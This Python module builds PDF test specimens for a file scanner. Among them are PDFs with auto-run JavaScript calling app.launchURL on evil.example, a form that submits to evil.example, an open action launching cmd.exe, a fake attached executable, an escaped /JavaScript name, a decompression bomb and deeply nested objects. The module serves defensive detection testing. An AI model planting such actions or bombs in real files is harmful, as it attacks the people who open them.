"""PDFs: plain, with everything that acts by itself, locked, damaged, heavy."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, String
from specimen import Specimen

PDF = "application/pdf"


def pdf(change=None, *, pages=1, **more):
    held = pikepdf.new()
    for _ in range(pages):
        held.add_blank_page(page_size=(595, 842))
    if change:
        change(held)
    out = io.BytesIO()
    held.save(out, **more)
    return out.getvalue()


def on_open(**action):
    def change(held):
        held.Root.OpenAction = Dictionary(**action)

    return change


def on_link(**action):
    def change(held):
        held.pages[0].Annots = Array([
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(**action))
        ])  # fmt: skip

    return change


def attached(name):
    def change(held):
        held.attachments[name] = pikepdf.AttachedFileSpec(held, b"MZ", filename=name)

    return change


def hidden_script(held):
    """Deep within direct objects, under a name spelt with an escape."""
    inner = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://evil.example')"))
    held.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), inner])))


def page_action(held):
    held.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=held.make_stream(b"app.alert(1)")))


def form(held):
    held.Root.AcroForm = Dictionary(Fields=Array([]), XFA=held.make_stream(b"<xdp/>"))


def circle(held):
    """Pages that are their own parents."""
    held.Root.Pages.Kids.append(held.Root.Pages)


def locked(user, owner="o"):
    return pdf(encryption=Encryption(user=user, owner=owner, R=6))


def bomb():
    """A kilobyte of stream that unpacks to fifty megabytes, three times over."""
    import zlib

    packed = bytes(50 << 20)
    for _ in range(3):
        packed = zlib.compress(packed, 9)

    def change(held):
        stream = held.make_stream(packed)
        stream.Filter = Array([Name.FlateDecode] * 3)
        held.pages[0].Contents = stream

    return pdf(change, compress_streams=False)


def nest():
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"


def specimens():
    whole = pdf(pages=3)
    yield Specimen("PDF", "mo-ta.pdf", whole, PDF, notes=["pages"])
    yield Specimen("PDF with junk in front", "mo-ta.pdf", b"\r\n\r\n" + whole, PDF)
    yield Specimen("PDF whose table of objects is lost", "mo-ta.pdf", whole.replace(b"startxref", b"startxrex"), PDF)
    yield Specimen("PDF that forbids copying", "mo-ta.pdf", locked(""), PDF, notes=["pdf_restricted"])
    yield Specimen(
        "script on opening", "x.pdf", pdf(on_open(S=Name.JavaScript, JS=String("x"))), PDF, notes=["pdf_script"]
    )
    yield Specimen("script in the names", "x.pdf", pdf(hidden_script), PDF, notes=["pdf_script"])
    yield Specimen("script of a page", "x.pdf", pdf(page_action), PDF, notes=["pdf_script"])
    packed = pdf(hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield Specimen("script in a packed object", "x.pdf", packed, PDF, notes=["pdf_script"])
    escaped = pdf(on_open(S=Name.JavaScript, JS=String("x"))).replace(b"/JavaScript", b"/J#61v#61Script")
    yield Specimen("script with an escaped name", "x.pdf", escaped, PDF, notes=["pdf_script"])
    sends = pdf(on_link(S=Name.SubmitForm, F=String("https://evil.example")))
    yield Specimen("form that sends", "x.pdf", sends, PDF, notes=["pdf_sends"])
    yield Specimen("link to a site", "x.pdf", pdf(on_link(S=Name.URI, URI=String("https://example.vn"))), PDF)
    yield Specimen("starts cmd.exe", "x.pdf", pdf(on_open(S=Name.Launch, F=String("cmd.exe"))), PDF, "pdf_launch")
    yield Specimen(
        "link that starts a file", "x.pdf", pdf(on_link(S=Name.Launch, F=String("video.mp4"))), PDF, "pdf_launch"
    )
    yield Specimen("text attached", "x.pdf", pdf(attached("so-lieu.csv")), PDF, notes=["pdf_attachment"])
    yield Specimen("program attached", "x.pdf", pdf(attached("xem-ngay.exe")), PDF, "pdf_program")
    yield Specimen("form of XFA", "x.pdf", pdf(form), PDF, notes=["pdf_form"])
    yield Specimen("PDF locked by a password", "x.pdf", locked("mat-khau"), PDF, "pdf_locked")
    yield Specimen("600 pages", "x.pdf", pdf(pages=600), PDF, "pdf_long")
    yield Specimen("no page", "x.pdf", pdf(pages=0), PDF, "pdf_damaged")
    yield Specimen("pages in a circle", "x.pdf", pdf(circle), PDF, ("pdf_damaged",))
    yield Specimen("sign only", "x.pdf", b"%PDF-1.7\n", PDF, "pdf_damaged")
    yield Specimen("cut in the middle", "x.pdf", whole[:300], PDF, ("pdf_damaged", ""))
    yield Specimen("noise after the sign", "x.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 300, PDF, "pdf_damaged")
    yield Specimen("two hundred thousand brackets", "x.pdf", nest(), PDF, ("pdf_damaged", "broken"))
    yield Specimen("stream that unpacks without end", "x.pdf", bomb(), PDF)
    yield Specimen("PDF that begins as HTML", "x.pdf", b"<html><script>alert(1)</script>\n" + whole, PDF)
    yield Specimen("PDF with a zip behind it", "x.pdf", whole + b"PK\x05\x06" + bytes(18), PDF)
